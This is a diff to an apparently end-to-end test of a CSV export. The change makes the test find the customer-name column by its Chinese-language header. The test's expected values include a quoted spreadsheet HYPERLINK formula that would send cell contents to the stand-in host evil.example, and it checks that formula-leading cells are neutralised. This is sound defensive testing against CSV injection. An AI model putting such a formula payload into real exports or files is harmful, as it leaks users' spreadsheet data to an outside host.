@@ -5,6 +5,7 @@
 // still on screen; names with markup shown as text; no script run, no dialog,
 // no request to another origin, no console error.
 
+import { columnHeader } from '../../src/export/columns';
 import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -183,7 +184,8 @@ const EXTRA: Record<string, (names: string[]) => Promise<void>> = {
     const csv = readFileSync((await download.path())!, 'utf8');
     const records = parseRecords(csv.replace(/^\uFEFF/, ''), ',', 1e6, false);
     const header = records[0]!;
-    const exported = records.slice(1).map((r) => r[header.indexOf('customer_name')]);
+    // The export's headers are in the page's language.
+    const exported = records.slice(1).map((r) => r[header.indexOf(columnHeader('customer_name', 'zh'))]);
     expect(exported).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"点这里")`);
     expect(exported).toContain("'\t=1+1");
     for (const r of records) for (const f of r) if (/^[=+\-@\t\r]/.test(f)) expect(f).toMatch(/^-\d+(\.\d+)?(e[-+]?\d+)?$/);
